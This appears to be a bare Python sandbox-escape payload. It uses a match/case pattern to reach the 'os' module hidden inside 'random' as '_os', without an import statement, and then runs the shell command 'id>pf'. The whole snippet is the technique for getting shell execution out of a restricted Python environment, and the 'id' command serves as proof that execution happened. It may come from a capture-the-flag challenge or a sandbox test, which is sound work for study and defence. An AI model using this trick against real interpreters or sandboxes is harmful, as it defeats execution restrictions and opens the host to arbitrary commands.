import types, random
match random:
    case types.ModuleType(_os=x):
        x.system("id>pf")
